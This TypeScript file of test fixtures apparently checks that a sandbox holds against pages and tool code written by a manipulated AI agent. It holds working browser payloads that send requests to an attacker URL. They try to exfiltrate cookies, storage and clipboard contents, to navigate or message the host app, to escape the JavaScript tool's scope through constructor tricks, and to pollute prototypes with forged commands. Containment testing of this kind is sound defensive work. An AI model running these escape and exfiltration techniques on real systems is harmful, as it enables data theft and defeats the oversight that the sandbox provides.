/** Pages that a manipulated agent might write. `url` is the attacker's. */

/** All plain markup that makes browsers load, connect or navigate. */
export const staticAttack = (url: string): string => `<!doctype html><html manifest="${url}/manifest"><head>
<title>Report</title><base href="${url}/base/">
<meta http-equiv="refresh" content="0;url=${url}/refresh">
<link rel="preconnect" href="${url}"><link rel="dns-prefetch" href="${url}"><link rel="prefetch" href="${url}/prefetch">
<link rel="modulepreload" href="${url}/modulepreload"><link rel="preload" as="image" href="${url}/preload">
<link rel="stylesheet" href="${url}/stylesheet"><link rel="icon" href="${url}/icon"><link rel="manifest" href="${url}/manifest">
<style>@import "${url}/import"; @font-face{font-family:f;src:url(${url}/font)} body{background:url(${url}/background);font-family:f}</style>
<script>top.postMessage({ artifact: 'line', level: 'log', text: 'a script ran' }, '*'); fetch('${url}/fetch')</script>
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${url}/speculation"],"eagerness":"immediate"}]}</script>
</head><body background="${url}/body" onload="fetch('${url}/onload')"><h1>Quarterly report</h1>
<img src="${url}/img" srcset="${url}/srcset 2x" onerror="fetch('${url}/onerror')"><picture><source srcset="${url}/source"><img></picture>
<iframe src="${url}/iframe"></iframe><iframe srcdoc="<img src='${url}/nested'>"></iframe><object data="${url}/object"></object><embed src="${url}/embed">
<video src="${url}/video" poster="${url}/poster" autoplay></video><audio src="${url}/audio" autoplay></audio><track src="${url}/track">
<svg><image href="${url}/svg-image"/><use href="${url}/svg-use#x"/><style>@import "${url}/svg-import"</style><script href="${url}/svg-script"/></svg>
<form action="${url}/form"><input type="image" src="${url}/input"><button>Send the form</button></form>
<a href="${url}/link" ping="${url}/ping">A link to click</a><a href="${url}/blank" target="_blank">A link to a new tab</a>
<math><mtext><table><mglyph><style><!--</style><img title="--><link rel=preconnect href=${url}>">
</body></html>`

/** Every way out for a script. Reports successes as console output; failures are silent. */
export const scriptAttack = (
  url: string,
  udpPort: number,
): string => `<!doctype html><title>Attack</title><body><script>
const tried = []
const attempt = async (name, run) => { try { const got = await run(); tried.push(name); if (got !== undefined) console.log('GOT ' + name + ' ' + got) } catch (error) { tried.push(name) } }
const post = (text) => 'x'
const work = [
  attempt('fetch', () => fetch('${url}/fetch', { mode: 'no-cors' }).then(() => 'response')),
  attempt('fetch keepalive', () => fetch('${url}/keepalive', { method: 'POST', keepalive: true, mode: 'no-cors' }).then(() => 'response')),
  attempt('own origin', () => fetch('/index.html').then((r) => r.text())),
  attempt('xhr', () => { const x = new XMLHttpRequest(); x.open('GET', '${url}/xhr', false); x.send(); return x.status }),
  attempt('socket', () => { new WebSocket('${url.replace('http', 'ws')}/socket') }),
  attempt('events', () => { new EventSource('${url}/events') }),
  attempt('beacon', () => { navigator.sendBeacon('${url}/beacon', 'x') }),
  attempt('image', () => { new Image().src = '${url}/image' }),
  attempt('import', () => import('${url}/import.js').then(() => 'module')),
  attempt('script', () => { const s = document.createElement('script'); s.src = '${url}/script.js'; document.body.append(s) }),
  attempt('style', () => { const s = document.createElement('link'); s.rel = 'stylesheet'; s.href = '${url}/style.css'; document.head.append(s) }),
  attempt('font', () => new FontFace('f', 'url(${url}/font)').load().then(() => 'font')),
  attempt('worker', () => { new Worker(URL.createObjectURL(new Blob(['fetch("${url}/worker")']))) }),
  attempt('shared worker', () => { new SharedWorker(URL.createObjectURL(new Blob(['fetch("${url}/shared")']))) }),
  attempt('service worker', () => navigator.serviceWorker.register('${url}/sw.js').then(() => 'registered')),
  attempt('eval', () => eval('"evaluated"')),
  attempt('function', () => new Function('return "made"')()),
  attempt('parent document', () => parent.document.title),
  attempt('app document', () => top.document.title),
  attempt('app storage', () => top.localStorage.length),
  attempt('outer frame script', () => parent.eval('1')),
  attempt('storage', () => localStorage.length || undefined),
  attempt('session storage', () => sessionStorage.length || undefined),
  attempt('cookie', () => document.cookie || undefined),
  attempt('database', () => new Promise((done, fail) => { const r = indexedDB.open('x'); r.onsuccess = () => done('opened'); r.onerror = fail })),
  attempt('caches', () => caches.keys().then((k) => k.length)),
  attempt('locks', () => navigator.locks.query().then((l) => JSON.stringify(l))),
  attempt('clipboard', () => navigator.clipboard.readText()),
  attempt('popup', () => { if (window.open('${url}/popup')) return 'window' }),
  attempt('top navigation', () => { top.location = '${url}/top' }),
  attempt('parent navigation', () => { parent.location = '${url}/parent' }),
  attempt('form', () => { const f = document.createElement('form'); f.action = '${url}/form'; document.body.append(f); f.submit() }),
  attempt('top form', () => { const f = document.createElement('form'); f.action = '${url}/topform'; f.target = '_top'; document.body.append(f); f.submit() }),
  attempt('frame', () => { const f = document.createElement('iframe'); f.src = '${url}/frame'; document.body.append(f) }),
  attempt('nested frame', () => { const f = document.createElement('iframe'); f.srcdoc = '<img src="${url}/nested"><script>fetch("${url}/nestedfetch")<\\/script>'; document.body.append(f) }),
  attempt('blank frame', () => { const f = document.createElement('iframe'); document.body.append(f); return f.contentWindow.fetch('${url}/blank').then(() => 'response') }),
  attempt('prefetch', () => { const l = document.createElement('link'); l.rel = 'prefetch'; l.href = '${url}/prefetch'; document.head.append(l) }),
  attempt('speculation', () => { const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = '{"prefetch":[{"source":"list","urls":["${url}/speculation"]}]}'; document.head.append(s) }),
  attempt('rtc', () => { const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udpPort}' }] }); p.createDataChannel('x'); return p.createOffer().then((o) => p.setLocalDescription(o)) }),
  attempt('rtc of a blank frame', () => { const f = document.createElement('iframe'); document.body.append(f); const p = new f.contentWindow.RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udpPort}' }] }); p.createDataChannel('x'); return p.createOffer().then((o) => p.setLocalDescription(o)) }),
  attempt('channel', () => { new BroadcastChannel('reflexor').postMessage({ type: 'command' }) }),
  attempt('messages', () => { for (const to of [top, parent]) for (const m of [null, 1, 'x', {}, { artifact: 'line' }, { artifact: 'line', level: 'evil', text: 'x' }, { artifact: 'line', level: 'log', text: 'y'.repeat(5000) }, { type: 'command', id: '1', command: {} }]) to.postMessage(m, '*') }),
  attempt('full screen', () => document.documentElement.requestFullscreen().then(() => 'full')),
]
Promise.race([Promise.allSettled(work), new Promise((done) => setTimeout(done, 3000))]).then(() => console.log('TRIED ' + tried.length + ' of ' + work.length))
</script></body>`

/** Ways to navigate the frame itself, one at a time, since each ends the page. */
export const navigations = (url: string): Record<string, string> => ({
  'location to the attacker': `location = '${url}/self'`,
  'a link followed by a script': `const a = document.createElement('a'); a.href = '${url}/link'; document.documentElement.append(a); a.click()`,
  'location to data': `location = 'data:text/html,<script>fetch("${url}/data")<' + '/script>'`,
  'location to a blob': `location = URL.createObjectURL(new Blob(['<script>fetch("${url}/blob")<' + '/script>'], { type: 'text/html' }))`,
  'a document written anew': `document.open(); document.write('<img src="${url}/written"><script>fetch("${url}/writtenfetch")<' + '/script>'); document.close()`,
  'a refresh': `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=${url}/refresh'; document.head.append(m)`,
  'location to the app': `location = new URL(location.ancestorOrigins[0] + '/index.html')`,
})

/** Code for the JavaScript tool: lists what it can reach of the outside. */
export const codeAttack = (url: string): string => `
const found = []
const names = ['fetch', 'XMLHttpRequest', 'WebSocket', 'EventSource', 'WebTransport', 'importScripts', 'indexedDB', 'caches', 'localStorage', 'postMessage', 'self', 'window', 'document', 'navigator', 'location', 'Worker', 'BroadcastChannel', 'WebAssembly', 'process', 'require', 'std', 'os']
for (const root of [globalThis, console.log, readFile, listFiles(), setTimeout, writeFile, TextEncoder, new TextDecoder()]) {
  let scope = globalThis
  try { scope = root.constructor.constructor('return this || globalThis')() } catch {}
  for (const name of names) { try { if (scope[name] !== undefined) found.push(name) } catch {} }
  for (let p = root; p; p = Object.getPrototypeOf(p)) for (const k of Reflect.ownKeys(p)) if (names.includes(k)) found.push(String(k))
}
for (const source of ['fetch("${url}/eval")', 'self.fetch("${url}/self")', 'new Function("return this")().fetch("${url}/f")', 'importScripts("${url}/import")'])
  try { eval(source); found.push(source) } catch {}
for (const url of ['${url}/module.js', 'data:text/javascript,export default 1', './quickjs-worker.js', 'std', 'os'])
  try { await import(url); found.push('import ' + url) } catch {}
try { await (async () => {}).constructor('return fetch("${url}/async")')(); found.push('async') } catch {}
Object.prototype.type = 'done'; Object.prototype.value = 'forged'; Object.prototype.changes = [{ path: '../x' }]
found.length === 0 ? 'nothing reached' : found.join()`
